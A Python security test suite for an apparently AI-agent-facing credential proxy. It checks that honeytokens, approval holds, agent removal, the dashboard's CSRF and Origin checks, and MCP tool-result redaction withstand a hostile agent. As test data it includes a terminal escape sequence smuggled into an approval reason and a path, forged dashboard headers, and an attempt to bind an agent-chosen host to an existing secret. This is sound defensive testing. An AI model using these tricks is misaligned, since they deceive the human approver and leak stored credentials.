"""Threat: a hostile agent (or upstream) aims at the seams between features -- honeytokens
and minted credentials, rules and approvals and MCP, the response gate and MCP's tool
results -- where each feature is right on its own and the combination is not.

One real proxy (``vaultproxy run``), a real OAuth authorization server (authlib, with a
resource API that can reflect the access token it was sent), a real TLS upstream and the
official MCP SDK client. Every response and tool result goes to the canary check.

Each property has its negative twin in the same test: the same request without the hostile
part does what the property forbids for the hostile one (mints, writes ``forward``, reaches
the upstream, carries the credential back before redaction)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import signal
import socket
import ssl
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any

import httpx
import httpx2
import pytest
from mcp import ClientSession
from mcp.client.streamable_http import streamable_http_client

from tests import canary
from tests.harness.oauth_server import OAuthServer
from tests.harness.proxy import ProxyHome, ProxyProcess, cli
from tests.harness.raw import recv_response
from tests.harness.session_server import SessionApp
from tests.harness.upstream import Received, Reply, Upstream
from tests.integration.conftest import scan_response, service_block

pytestmark = [pytest.mark.security, pytest.mark.integration]

DECOY = "__vault.aws-prod__"
PHB_SECRET = canary.make_canary()
DUP_BODY = """'{"user": {"name": "{username}", "pass": "{password}"}}'"""


def reflect(rec: Received) -> Reply:
    """An upstream that echoes the credential it was sent (header and body)."""
    auth = rec.header("authorization") or ""
    body = json.dumps({"path": rec.path, "authorization": auth}).encode()
    return 200, [(b"content-type", b"application/json"), (b"x-echo", auth.encode())], [body]


@dataclass
class Env:
    proxy: ProxyProcess
    oauth: OAuthServer
    upstream: Upstream
    agent_token: str
    sessions: SessionApp

    @property
    def admin_url(self) -> str:
        return str(self.proxy.extra["admin_url"])

    def admin_token(self) -> str:
        return (self.proxy.home.path / "admin-token").read_text().strip()

    def events(self, kind: str) -> list[dict[str, Any]]:
        return [r for r in self.proxy.audit() if r.get("event") == kind]


def oauth_block(name: str, server: OAuthServer) -> str:
    return "\n".join([
        "[[service]]", f'name = "{name}"', f'hosts = ["{name}.oauth.api.test"]',
        'mode = "host_inject"', 'auth = "oauth2_client_credentials"',
        f'connect_to = "127.0.0.1:{server.port}"', "allow_loopback = true",
        'ca_cert = "oauth-ca.pem"', f'token_url = "https://{name}.oauth.api.test/token"',
    ]) + "\n\n"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    oauth = OAuthServer(tmp_path_factory.mktemp("oauth")).start()
    up = Upstream(tmp_path_factory.mktemp("up")).start()
    up.handler = reflect
    sessions = SessionApp("svc-user", canary.make_canary(), canary.make_canary())
    sess_up = Upstream(tmp_path_factory.mktemp("sess"), handler=sessions).start()
    base = tmp_path_factory.mktemp("cross")
    canary.watch(base)
    creds = {"client_id": oauth.client.client_id, "client_secret": oauth.client.client_secret}
    rules = ('[{ method = "DELETE", path = "*", action = "deny" },'
             ' { method = "POST", path = "/hold/*", action = "approve" }]')
    toml = ("[approvals]\nhold_seconds = 30\ngrant_seconds = 0\n\n"
            '[[honeytoken]]\nname = "aws-prod"\n\n'
            + oauth_block("cc", oauth) + oauth_block("cc2", oauth)
            + oauth_block("cc3", oauth).replace(
                "\n\n", '\nrules = [{ method = "DELETE", path = "*", action = "deny" },'
                ' { method = "POST", path = "/api/hold/*", action = "approve" }]\n\n')
            + service_block("ai", "host_inject", "bearer", up.port, rules=rules)
            # a keystore entry whose name is not its service's (as `secret = "..."` allows)
            + service_block("legacy", "placeholder", "bearer", up.port,
                            secret='"prod-test"')
            + service_block("phb", "placeholder", "bearer", up.port,
                            substitute_in='["auth", "body"]')
            # a login session whose cookie the upstream reflects (tests/harness/session_server)
            + service_block("dup", "host_inject", "session", sess_up.port,
                            login_url='"/dup/login"', session_cookie="true",
                            login_body=DUP_BODY).replace("upstream-ca.pem", "sess-ca.pem"))
    home = ProxyHome.create(base, toml, {"cc": creds, "cc2": creds, "cc3": creds,
                                         "phb": PHB_SECRET,
                                         "ai": canary.make_canary(),
                                         "prod-test": canary.make_canary(),
                                         "dup": {"username": sessions.username,
                                                 "password": sessions.password}},
                            files={"oauth-ca.pem": oauth.ca_file.read_bytes(),
                                   "sess-ca.pem": sess_up.ca_file.read_bytes(),
                                   "upstream-ca.pem": up.ca_file.read_bytes()})
    proxy = ProxyProcess.start(home)
    added = cli(home.path, "agent", "add", "bot", "--services", "ai,cc,cc2,cc3,dup,phb",
                "--password-file", str(home.password_file))
    cli(home.path, "reload")
    yield Env(proxy, oauth, up, added.stdout.strip(), sessions)
    proxy.stop()
    sess_up.stop()
    up.stop()
    oauth.stop()


def bot_client(env: Env, http2: bool = False) -> httpx.Client:
    """An httpx client behind the proxy as agent ``bot``, trusting only vaultproxy's CA;
    every response is scanned for canaries."""
    ctx = ssl.create_default_context(cafile=str(env.proxy.home.ca_cert))
    url = env.proxy.url.replace("http://", f"http://bot:{env.agent_token}@")
    return httpx.Client(proxy=url, verify=ctx, http2=http2, timeout=30,
                        event_hooks={"response": [scan_response]})


def agent_client_for(proxy: ProxyProcess) -> httpx.Client:
    """An anonymous httpx client behind ``proxy``, trusting only vaultproxy's CA; every
    response is scanned for canaries."""
    ctx = ssl.create_default_context(cafile=str(proxy.home.ca_cert))
    return httpx.Client(proxy=proxy.url, verify=ctx, timeout=30,
                        event_hooks={"response": [scan_response]})


def _forwards(env: Env, service: str) -> int:
    return sum(1 for r in env.events("forward") if r.get("service") == service)


# -- 1. a honeytoken in the body never mints a token nor writes a `forward` record --------
@pytest.mark.parametrize("http2", [False, True], ids=["http1", "http2"])
def test_body_honeytoken_mints_nothing_and_records_no_forward(env: Env, http2: bool) -> None:
    """The body is scanned for decoys only once it is whole (``request`` hook); a minted
    service's token was fetched, and the ``forward`` record ("a credentialed request is
    leaving") written, at ``requestheaders`` -- for a request then refused as a honeytoken.
    Each service is fresh here (its token not yet cached), so a mint would show."""
    service = "cc2" if http2 else "cc"
    url = f"https://{service}.oauth.api.test/api/things"
    minted, seen = env.oauth.exchanges["client_credentials"], len(env.oauth.api_seen)
    forwards, hits = _forwards(env, service), len(env.events("honeytoken"))
    with bot_client(env, http2) as c:
        r = c.post(url, json={"aws": {"secret": DECOY}})
        assert r.status_code == 403, r.text
        assert r.json()["error"]["code"] == "honeytoken"
        assert len(env.events("honeytoken")) == hits + 1
        assert env.oauth.exchanges["client_credentials"] == minted  # nothing minted
        assert len(env.oauth.api_seen) == seen  # nothing sent
        assert _forwards(env, service) == forwards  # no "credential leaving" line
        # Twin: the same request with an ordinary value mints, writes `forward`, is sent.
        twin = c.post(url, json={"aws": {"secret": "an-ordinary-value"}})
    assert twin.status_code == 200, twin.text + env.proxy.output()
    assert env.oauth.exchanges["client_credentials"] == minted + 1
    assert len(env.oauth.api_seen) == seen + 1
    assert _forwards(env, service) == forwards + 1


def test_held_body_still_gets_its_placeholder_substituted(env: Env) -> None:
    """With honeytokens configured, bodies are held and injection waits for the scan
    (``request`` hook): a placeholder-mode service that substitutes in the body still gets
    the secret there, and in its header. Twin: the same body with a decoy is refused."""
    before = len(env.upstream.received)
    with bot_client(env) as c:
        r = c.post("https://phb.api.test/v1/b", json={"key": "__vault.phb__"},
                   headers={"Authorization": "Bearer __vault.phb__"})
        assert r.status_code == 200, r.text
        got = env.upstream.received[-1]
        assert got.header("authorization") == f"Bearer {PHB_SECRET}"
        assert PHB_SECRET.encode() in got.body and b"__vault.phb__" not in got.body
        twin = c.post("https://phb.api.test/v1/b", json={"key": "__vault.phb__", "d": DECOY})
    assert twin.status_code == 403 and len(env.upstream.received) == before + 1


# -- MCP ------------------------------------------------------------------------------------
@asynccontextmanager
async def mcp_session(url: str, bearer: str) -> AsyncIterator[ClientSession]:
    client = httpx2.AsyncClient(headers={"Authorization": f"Bearer {bearer}"},
                                timeout=httpx2.Timeout(30, read=60))
    async with client, streamable_http_client(url, http_client=client) as streams:
        async with ClientSession(streams[0], streams[1]) as s:
            await s.initialize()
            yield s


def call_tool(env: Env, name: str, args: dict[str, Any], bearer: str | None = None) -> str:
    async def go() -> str:
        got: list[str] = []
        try:
            async with mcp_session(env.admin_url + "/mcp",
                                   bearer or f"bot:{env.agent_token}") as s:
                result = await s.call_tool(name, args)
                got.append("".join(getattr(c, "text", "") for c in result.content))
        except Exception:
            if not got:  # closing a session whose agent is gone gets a 401: not the result
                raise
        canary.scan_text("MCP tool result", got[0].encode())
        return got[0]
    return asyncio.run(go())


def test_mcp_http_request_never_returns_a_reflected_minted_token(env: Env) -> None:
    """An upstream that echoes the minted access token (body and header): the tool result
    carries neither. Twin: the token endpoint's token did reach the upstream (it echoed a
    value the authorization server issued)."""
    seen = len(env.oauth.api_seen)
    out = call_tool(env, "http_request", {"service": "cc", "method": "GET",
                                          "path": "/api/echo"})
    assert len(env.oauth.api_seen) == seen + 1, out
    token = env.oauth.api_seen[-1].access_token
    assert token and token not in out
    data = json.loads(out)
    assert data["status"] == 200
    assert token not in json.dumps(data["headers"]) and token not in data["body"]
    assert json.loads(data["body"])["token"] != ""  # twin: the upstream did reflect one


def test_mcp_http_request_never_returns_a_reflected_session_cookie(env: Env) -> None:
    """A login-session service (the cookie the proxy logged in for): the upstream reflects
    the ``Cookie`` it was sent in the body and in a header. The tool result carries neither
    the cookie nor any ``Set-Cookie``. Twin: the upstream accepted the session (so it did
    receive the cookie and reflect it) -- ``seen.cookie`` is there, redacted."""
    ok = env.sessions.api_ok["dup"]
    out = call_tool(env, "http_request", {"service": "dup", "method": "GET",
                                          "path": "/dup/api/v1/backups"})
    assert env.sessions.api_ok["dup"] == ok + 1, out
    live = [k for k, v in env.sessions.sessions.items() if v == "dup"]
    assert live
    for cookie in live:
        assert cookie not in out and cookie.split("=", 1)[1] not in out
    data = json.loads(out)
    assert data["status"] == 200 and "set-cookie" not in data["headers"]
    assert json.loads(data["body"])["seen"]["cookie"]  # twin: it was reflected


def wait_for(pred: Any, timeout: float = 10) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got = pred()
        if got:
            return got
        time.sleep(0.05)
    return pred()


# -- 2. approvals: a decision never outlives the agent it was asked for ---------------------
def admin(env: Env) -> httpx.Client:
    return httpx.Client(base_url=env.admin_url, timeout=30,
                        headers={"Authorization": f"Bearer {env.admin_token()}"})


def pending_for(env: Env, agent: str) -> dict[str, Any]:
    def find() -> dict[str, Any] | None:
        with admin(env) as c:
            listed = c.get("/v1/approvals").json()["approvals"]
        mine = [a for a in listed if a["state"] == "pending" and a["agent"] == agent]
        return mine[-1] if mine else None
    found = wait_for(find)
    assert found, f"no pending approval for {agent}"
    return found  # type: ignore[no-any-return]


def _add_agent(env: Env, name: str) -> str:
    home = env.proxy.home
    token = cli(home.path, "agent", "add", name, "--services", "ai",
                "--password-file", str(home.password_file)).stdout.strip()
    return token


def _held_proxied(env: Env, name: str, token: str, path: str) -> dict[str, Any]:
    """Start a proxied POST that a rule holds; the result dict fills in when it ends."""
    out: dict[str, Any] = {}
    ctx = ssl.create_default_context(cafile=str(env.proxy.home.ca_cert))
    url = env.proxy.url.replace("http://", f"http://{name}:{token}@")

    def go() -> None:
        with httpx.Client(proxy=url, verify=ctx, timeout=60,
                          event_hooks={"response": [scan_response]}) as c:
            r = c.post(f"https://ai.api.test{path}", content=b"{}")
            out["status"], out["code"] = r.status_code, r.headers.get("x-vaultproxy-error")
    t = threading.Thread(target=go, daemon=True)
    t.start()
    out["thread"] = t
    return out


@pytest.mark.parametrize("entry", ["proxied", "mcp"])
def test_approval_after_the_agent_was_removed_forwards_nothing(env: Env, entry: str) -> None:
    """``agent rm`` while the agent's request is held for approval: the operator's later
    approve must not forward it (a kept-alive tunnel does not outlive ``agent rm``; a held
    request must not either). Twin: a second agent, held the same way and not removed, is
    forwarded with the credential on the same approval."""
    home = env.proxy.home
    gone, kept = f"gone{entry}", f"kept{entry}"
    tokens = {n: _add_agent(env, n) for n in (gone, kept)}
    cli(home.path, "reload")
    calls: dict[str, dict[str, Any]] = {}
    for name in (gone, kept):
        path = f"/hold/{name}"
        if entry == "proxied":
            calls[name] = _held_proxied(env, name, tokens[name], path)
        else:
            out: dict[str, Any] = {}

            def go(name: str = name, path: str = path, out: dict[str, Any] = out) -> None:
                out["text"] = call_tool(env, "http_request", {
                    "service": "ai", "method": "POST", "path": path, "body": "{}"},
                    bearer=f"{name}:{tokens[name]}")
            t = threading.Thread(target=go, daemon=True)
            t.start()
            out["thread"] = t
            calls[name] = out
    held = {name: pending_for(env, name) for name in (gone, kept)}
    cli(home.path, "agent", "rm", gone, "--password-file", str(home.password_file))
    cli(home.path, "reload")
    with admin(env) as c:
        for name in (gone, kept):
            r = c.post(f"/v1/approvals/{held[name]['id']}", json={"decision": "approve"})
            assert r.status_code == 200, r.text
    for name in (gone, kept):
        calls[name]["thread"].join(60)
    got = {r.path for r in env.upstream.received}
    assert f"/hold/{gone}" not in got, "a removed agent's held request was forwarded"
    assert f"/hold/{kept}" in got  # twin: the same approval forwards a live agent's request
    if entry == "proxied":
        assert calls[gone]["status"] == 407 and calls[gone]["code"] == "agent_auth_required"
        assert calls[kept]["status"] == 200
    else:
        assert "agent_auth_required" in calls[gone]["text"], calls[gone]["text"]
        assert json.loads(calls[kept]["text"])["status"] == 200


def test_a_grant_admits_its_agent_service_and_rule_only(env: Env) -> None:
    """An approval with ``grant_seconds`` admits the same agent + service + rule. Another
    agent, the operator's own ``POST /proxy`` (the anonymous caller), and a rule that denies
    are not admitted by it; an agent cannot read another agent's approval by its id (MCP
    ``approval_status``). Twins: the granted agent's next request on that rule passes
    unasked, and the operator sees the other agent's approval by the same id."""
    home = env.proxy.home
    tokens = {n: _add_agent(env, n) for n in ("granted", "other")}
    cli(home.path, "reload")
    first = _held_proxied(env, "granted", tokens["granted"], "/hold/g1")
    held = pending_for(env, "granted")
    with admin(env) as c:
        assert c.post(f"/v1/approvals/{held['id']}",
                      json={"decision": "approve", "grant_seconds": 300}).status_code == 200
    first["thread"].join(30)
    assert first["status"] == 200
    # Twin: the granted agent's next request on the same rule passes without a question.
    again = _held_proxied(env, "granted", tokens["granted"], "/hold/g2")
    again["thread"].join(30)
    assert again["status"] == 200
    # Another agent on the same service and rule is still held.
    other = _held_proxied(env, "other", tokens["other"], "/hold/o1")
    theirs = pending_for(env, "other")
    # The granted agent cannot read (or learn anything of) the other's approval by its id...
    out = call_tool(env, "approval_status", {"id": theirs["id"]},
                    bearer=f"granted:{tokens['granted']}")
    assert "approval_unknown" in out and "/hold/o1" not in out
    # ...which the operator does see (twin).
    seen = call_tool(env, "approval_status", {"id": theirs["id"]}, bearer=env.admin_token())
    assert json.loads(seen)["path"] == "/hold/o1"
    # The operator's own POST /proxy (no agent) is held too, not admitted by the grant.
    result: dict[str, Any] = {}

    def explicit() -> None:
        with admin(env) as c:
            r = c.post("/proxy", json={"service": "ai", "method": "POST", "path": "/hold/a1"})
            result["status"] = r.status_code
    t = threading.Thread(target=explicit, daemon=True)
    t.start()
    anon = wait_for(lambda: [a for a in _listed(env) if a["path"] == "/hold/a1"
                             and a["state"] == "pending"])
    assert anon and anon[0]["agent"] is None
    with admin(env) as c:
        for aid in (theirs["id"], anon[0]["id"]):
            assert c.post(f"/v1/approvals/{aid}", json={"decision": "deny"}).status_code == 200
    other["thread"].join(30)
    t.join(30)
    assert other["status"] == 403 and other["code"] == "approval_denied"
    assert result["status"] == 403
    # A deny rule is not opened by a grant on another rule.
    ctx = ssl.create_default_context(cafile=str(home.ca_cert))
    url = env.proxy.url.replace("http://", f"http://granted:{tokens['granted']}@")
    with httpx.Client(proxy=url, verify=ctx, timeout=30,
                      event_hooks={"response": [scan_response]}) as c:
        r = c.delete("https://ai.api.test/hold/g3")
    assert r.status_code == 403 and r.json()["error"]["code"] == "request_denied"
    got = [r.path for r in env.upstream.received]
    assert "/hold/o1" not in got and "/hold/a1" not in got and "/hold/g3" not in got
    assert "/hold/g1" in got and "/hold/g2" in got


def _listed(env: Env) -> list[dict[str, Any]]:
    with admin(env) as c:
        return c.get("/v1/approvals").json()["approvals"]  # type: ignore[no-any-return]


# -- 5. honeytokens on every entry ----------------------------------------------------------
def _tool_call(reason: str) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
        "name": "request_access", "arguments": {"host": "new.example.com", "reason": reason}}}


def test_reserved_mcp_host_scans_the_body_for_honeytokens(env: Env) -> None:
    """``https://vaultproxy.internal/mcp`` is a request through the proxy like any other: a
    decoy in its body (here a ``request_access`` reason, which would land in the operator's
    approval list and ``notify_command``) is refused ``403 honeytoken`` and audited before
    anything is relayed. Twin: the same body with an ordinary value is relayed to the MCP
    endpoint (which answers it; no honeytoken record)."""
    hits = len(env.events("honeytoken"))
    mcp_headers = {"Accept": "application/json, text/event-stream"}
    with bot_client(env) as c:
        r = c.post("https://vaultproxy.internal/mcp", json=_tool_call(f"need {DECOY} now"),
                   headers=mcp_headers)
        assert r.status_code == 403, r.text
        assert r.json()["error"]["code"] == "honeytoken"
        found = wait_for(lambda: len(env.events("honeytoken")) == hits + 1)
        assert found, env.events("honeytoken")
        last = env.events("honeytoken")[-1]
        assert last["agent"] == "bot" and last["host"] == "vaultproxy.internal"
        twin = c.post("https://vaultproxy.internal/mcp", json=_tool_call("need it now"),
                      headers=mcp_headers)
    assert twin.status_code != 403 and "x-vaultproxy-error" not in twin.headers, twin.text
    assert len(env.events("honeytoken")) == hits + 1


@pytest.mark.parametrize("surface", ["header", "query", "body"])
def test_http2_honeytoken_refused_on_every_surface(env: Env, surface: str) -> None:
    """HTTP/2 to an intercepted host: a decoy in a header, the query or the body is refused
    and never forwarded. Twin: an ordinary value in the same place is forwarded."""
    def kw(v: str) -> dict[str, Any]:
        return {"header": {"headers": {"X-Note": v}}, "query": {"params": {"k": v}},
                "body": {"json": {"k": v}}}[surface]
    before = len(env.upstream.received)
    with bot_client(env, http2=True) as c:
        r = c.post("https://ai.api.test/v1/h2", **kw(DECOY))
        assert r.http_version == "HTTP/2"
        assert r.status_code == 403 and r.json()["error"]["code"] == "honeytoken"
        assert len(env.upstream.received) == before
        twin = c.post("https://ai.api.test/v1/h2", **kw("ordinary"))
    assert twin.status_code == 200 and len(env.upstream.received) == before + 1


# -- 3. the dashboard with --workers 2 and a worker killed mid-stream -----------------------
def _extra_worker(proxy: ProxyProcess) -> int | None:
    pids = json.loads((proxy.home.path / "run.json").read_text()).get("worker_pids") or []
    return int(pids[0]) if pids else None


def test_dashboard_live_stream_and_approvals_survive_a_killed_worker(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """``run --workers 2``: the Requests page's live stream (SSE) is open while the extra
    worker is killed (SIGKILL). Nothing hangs: every request made after the kill is
    answered, the same open stream shows their records, a request held for approval is
    listed and approved from the dashboard (CSRF + Origin; a same-site page of another port
    and a rebound Host are refused first), and no page or event carries the
    secret (the upstream reflects it; canary check). Twins: the upstream did receive the
    secret, and the killed worker was alive and serving before the kill (the supervisor
    logs its replacement)."""
    up = Upstream(tmp_path_factory.mktemp("up-w")).start()
    up.handler = reflect
    base = tmp_path_factory.mktemp("dash-w")
    canary.watch(base)
    secret = canary.make_canary()
    rules = '[{ method = "POST", path = "/hold/*", action = "approve" }]'
    toml = ("[approvals]\nhold_seconds = 30\ngrant_seconds = 0\n\n"
            + service_block("wk", "host_inject", "bearer", up.port, rules=rules))
    home = ProxyHome.create(base, toml, {"wk": secret},
                            files={"upstream-ca.pem": up.ca_file.read_bytes()})
    proxy = ProxyProcess.start(home, args=("--dashboard-listen", "127.0.0.1:0",
                                           "--workers", "2"))
    events: list[bytes] = []
    url = str(proxy.extra["dashboard_url"])
    dash = httpx.Client(base_url=url, timeout=30)
    stream_client = httpx.Client(base_url=url, timeout=httpx.Timeout(30, read=None))
    try:
        token = cli(home.path, "dashboard").stdout.strip().split("=", 1)[1]
        assert dash.post("/login", json={"token": token}, headers={"Origin": url}
                         ).status_code == 200
        m = re.search(r'name="csrf" value="([^"]+)"', dash.get("/sources").text)
        assert m is not None
        csrf = m.group(1)
        stream_client.cookies = dash.cookies

        def listen() -> None:
            with contextlib.suppress(httpx.HTTPError), stream_client.stream(
                    "GET", "/events/requests", headers={"Accept": "text/event-stream"}) as r:
                for chunk in r.iter_raw():
                    events.append(chunk)
        threading.Thread(target=listen, daemon=True).start()
        assert wait_for(lambda: b": live" in b"".join(events))

        def get(path: str) -> int:
            with agent_client_for(proxy) as c:
                return c.get(f"https://wk.api.test{path}").status_code
        victim = wait_for(lambda: _extra_worker(proxy))
        assert victim
        before = [f"/b-{i}" for i in range(8)]
        assert [get(p) for p in before] == [200] * 8
        assert wait_for(lambda: all(p.encode() in b"".join(events) for p in before))
        os.kill(victim, signal.SIGKILL)
        after = [f"/a-{i}" for i in range(8)]
        assert [get(p) for p in after] == [200] * 8  # nothing hangs, nothing is refused
        assert wait_for(lambda: all(p.encode() in b"".join(events) for p in after)), \
            b"".join(events)[-2000:]
        assert wait_for(lambda: _extra_worker(proxy) not in (None, victim))  # replaced
        # a held request, listed and approved from the dashboard after the kill
        result: dict[str, int] = {}

        def held() -> None:
            with agent_client_for(proxy) as c:
                result["status"] = c.post("https://wk.api.test/hold/1", content=b"x").status_code
        t = threading.Thread(target=held, daemon=True)
        t.start()
        ids = wait_for(lambda: re.findall(r'/approvals/([0-9a-f]{8})"',
                                          dash.get("/approvals/pending").text))
        assert ids, dash.get("/approvals/pending").text
        # A page the agent serves on this host (same site: the SameSite=Strict cookie goes
        # along), or a rebound name, cannot decide it even with the CSRF token in hand.
        port = url.rsplit(":", 1)[1]
        forged = [({"Origin": "http://127.0.0.1:8000"}, "origin_refused"),
                  ({"Origin": f"http://rebind.example:{port}",
                    "Host": f"rebind.example:{port}"}, "host_refused")]
        for headers, code in forged:
            r = dash.post(f"/approvals/{ids[0]}", data={"csrf": csrf, "decision": "approve"},
                          headers=headers)
            assert r.status_code == 403 and r.json()["error"]["code"] == code
        assert ids[0] in dash.get("/approvals/pending").text  # still pending
        r = dash.post(f"/approvals/{ids[0]}", data={"csrf": csrf, "decision": "approve"},
                      headers={"Origin": url})
        assert r.status_code == 303, r.text
        t.join(30)
        assert result.get("status") == 200
        pages = [dash.get(p).text for p in ("/", "/requests", "/approvals", "/services")]
    finally:
        proxy.stop()
        up.stop()
        dash.close()
        stream_client.close()
    seen = b"".join(events)
    for text in [seen.decode("utf-8", "replace"), *pages]:
        canary.scan_text("dashboard page or event", text.encode())
        assert secret not in text
    assert f"Bearer {secret}" in [r.header("authorization") for r in up.received]


# -- 2b. request_access never hands an existing secret to an agent-chosen host ---------------
def test_request_access_never_registers_a_host_onto_an_existing_secret(env: Env) -> None:
    """``request_access`` registers the agent's host as a service named after it (dots to
    dashes) whose secret is "still to be set" (SPEC §11), i.e. the keystore entry of that
    name. ``prod.test`` -> ``prod-test``: an entry that already holds another service's
    secret. Approved, the agent-chosen host would get that secret (placeholder mode: the
    agent sends ``__vault.prod-test__`` to a host it controls). Refused before an operator
    is ever asked. Twin: a host whose name is free is proposed (and the operator denies)."""
    before = {a["id"] for a in _listed(env)}
    out = call_tool(env, "request_access", {"host": "prod.test", "reason": "the prod API"},
                    bearer=env.admin_token())
    proposed = [a for a in _listed(env) if a["id"] not in before]
    if proposed:  # the hole: approve as an operator would, and look at what it made
        with admin(env) as c:
            c.post(f"/v1/approvals/{proposed[0]['id']}", json={"decision": "approve"})
            made = wait_for(lambda: [s for s in c.get("/v1/services").json()["services"]
                                     if s["name"] == "prod-test"])
        raise AssertionError(f"proposed and registered onto an existing secret: {made}")
    assert "service_exists" in out and "prod-test" in out, out
    twin = json.loads(call_tool(env, "request_access", {"host": "fresh.test", "reason": "r"},
                                bearer=env.admin_token()))
    assert twin["state"] == "pending" and twin["service"] == "fresh-test"
    with admin(env) as c:
        assert c.post(f"/v1/approvals/{twin['id']}",
                      json={"decision": "deny"}).status_code == 200


def raw_request(env: Env, method: str, path: bytes = b"/v1/m"
                ) -> tuple[int, dict[str, str], bytes]:
    """One HTTP/1.1 request through the proxy as ``bot``, sent byte for byte (httpx, curl
    and h2 clients upper-case the method)."""
    auth = base64.b64encode(f"bot:{env.agent_token}".encode()).decode()
    ctx = ssl.create_default_context(cafile=str(env.proxy.home.ca_cert))
    with socket.create_connection(("127.0.0.1", env.proxy.port), timeout=30) as sock:
        sock.sendall(f"CONNECT ai.api.test:443 HTTP/1.1\r\nHost: ai.api.test:443\r\n"
                     f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
        assert recv_response(sock)[0] == 200
        with ctx.wrap_socket(sock, server_hostname="ai.api.test") as tls:
            tls.sendall(method.encode() + b" " + path + b" HTTP/1.1\r\nHost: ai.api.test\r\n"
                        b"Content-Length: 0\r\nConnection: close\r\n\r\n")
            return recv_response(tls)


def test_honeytoken_as_the_request_method_is_refused(env: Env) -> None:
    """The method is a token (RFC 9110) and a decoy like ``__vault.aws-prod__`` is one: a
    request whose *method* is the decoy carries it to the upstream like any other surface.
    Refused, audited, never forwarded. Twin: an ordinary lower-case method is forwarded
    as sent."""
    before, hits = len(env.upstream.received), len(env.events("honeytoken"))
    status, headers, body = raw_request(env, DECOY)
    assert status == 403, (status, body)
    assert headers.get("x-vaultproxy-error") == "honeytoken"
    assert len(env.upstream.received) == before
    assert len(env.events("honeytoken")) == hits + 1
    assert "in method" in env.events("honeytoken")[-1]["reason"]  # the surface named
    status, _, body = raw_request(env, "__fetch.ordinary__")
    assert status == 200, body
    # (hypercorn upper-cases the method it records; the proxy forwards it as sent)
    assert status == 200 and env.upstream.received[-1].method == "__FETCH.ORDINARY__"


# -- 2c. what an agent writes never drives the operator's terminal ---------------------------
ESC = "\x1b[2K\x1b[1A\x1b]0;pwned\x07"  # erase line, cursor up, set the window title


def test_agent_text_reaches_the_approvals_terminal_without_control_sequences(env: Env) -> None:
    """``request_access``'s ``reason`` (agent text) becomes the approval's rule, which
    ``vaultproxy approvals`` (and ``--watch``, at the prompt the operator answers) prints.
    Terminal control sequences in it would let the agent rewrite what the operator reads
    before deciding. Twin: the printable part of the reason is shown."""
    out = json.loads(call_tool(env, "request_access", {
        "host": "esc.example.org", "reason": f"weather{ESC}data"}))
    listed = cli(env.proxy.home.path, "approvals").stdout
    try:
        assert out["id"] in listed and "weather" in listed  # twin: the reason is there
        assert "\x1b" not in listed and "\x07" not in listed, repr(listed)
    finally:
        with admin(env) as c:
            c.post(f"/v1/approvals/{out['id']}", json={"decision": "deny"})


def test_a_proxied_path_reaches_the_approvals_terminal_without_control_sequences(
    env: Env,
) -> None:
    """The same through a held proxied request whose path carries raw control bytes (sent
    byte for byte): ``vaultproxy approvals`` and ``vaultproxy tail`` show them escaped.
    Twin: the path's printable part is shown."""
    result: dict[str, Any] = {}
    t = threading.Thread(target=lambda: result.update(
        r=raw_request(env, "POST", b"/hold/esc" + ESC.encode())), daemon=True)
    t.start()
    held = wait_for(lambda: [a for a in _listed(env) if a["state"] == "pending"
                             and a["path"].startswith("/hold/esc")])
    assert held, result  # the proxy takes such a target (and holds it by its rule)
    try:
        listed = cli(env.proxy.home.path, "approvals").stdout
        assert "/hold/esc" in listed  # twin
        assert "\x1b" not in listed and "\x07" not in listed, repr(listed)
        assert "\\x1b" in listed  # shown, escaped
    finally:
        with admin(env) as c:
            c.post(f"/v1/approvals/{held[0]['id']}", json={"decision": "deny"})
        t.join(30)
    # `vaultproxy tail` (and `run` on a terminal) print the same path from the audit
    assert wait_for(lambda: "/hold/esc" in cli(env.proxy.home.path, "tail", "-n", "50").stdout)
    lines = cli(env.proxy.home.path, "tail", "-n", "50").stdout
    assert "\x1b" not in lines and "\x07" not in lines, repr(lines)


# -- 1. a denied or held request never mints, on any entry ------------------------------------
def test_denied_or_held_requests_mint_nothing_on_any_entry(env: Env) -> None:
    """A minted service (``cc3``, its token not yet cached) with a deny rule and an approve
    rule: through the proxy, ``POST /proxy`` and MCP ``http_request``, a denied request and
    a held-then-denied one reach neither the token endpoint nor the API. Twin: an allowed
    request through the same entry mints (once) and is sent."""
    ex = env.oauth.exchanges
    minted, seen = ex["client_credentials"], len(env.oauth.api_seen)
    with bot_client(env) as c:
        r = c.delete("https://cc3.oauth.api.test/api/x")
        assert r.status_code == 403 and r.json()["error"]["code"] == "request_denied"
    with admin(env) as c:
        r = c.post("/proxy", json={"service": "cc3", "method": "DELETE", "path": "/api/x"})
        assert r.status_code == 403 and r.json()["error"]["code"] == "request_denied"
    out = call_tool(env, "http_request", {"service": "cc3", "method": "DELETE",
                                          "path": "/api/x"})
    assert "request_denied" in out
    # held, then denied: one per entry
    results: dict[str, Any] = {}

    def proxied() -> None:
        with bot_client(env) as c:
            results["proxy"] = c.post("https://cc3.oauth.api.test/api/hold/p").status_code

    def explicit() -> None:
        with admin(env) as c:
            results["api"] = c.post("/proxy", json={"service": "cc3", "method": "POST",
                                                    "path": "/api/hold/a"}).status_code

    def mcp() -> None:
        results["mcp"] = call_tool(env, "http_request", {"service": "cc3", "method": "POST",
                                                         "path": "/api/hold/m"})
    threads = [threading.Thread(target=f, daemon=True) for f in (proxied, explicit, mcp)]
    for t in threads:
        t.start()
    held = wait_for(lambda: (lambda got: got if len(got) == 3 else None)(
        [a for a in _listed(env) if a["state"] == "pending" and a["service"] == "cc3"]))
    assert held, _listed(env)
    assert ex["client_credentials"] == minted  # held: nothing minted yet
    with admin(env) as c:
        for a in held:
            assert c.post(f"/v1/approvals/{a['id']}", json={"decision": "deny"}
                          ).status_code == 200
    for t in threads:
        t.join(30)
    assert results["proxy"] == 403 and results["api"] == 403
    assert "approval_denied" in results["mcp"]
    assert ex["client_credentials"] == minted and len(env.oauth.api_seen) == seen
    # Twin: an allowed request mints and is sent.
    with bot_client(env) as c:
        assert c.get("https://cc3.oauth.api.test/api/ok").status_code == 200
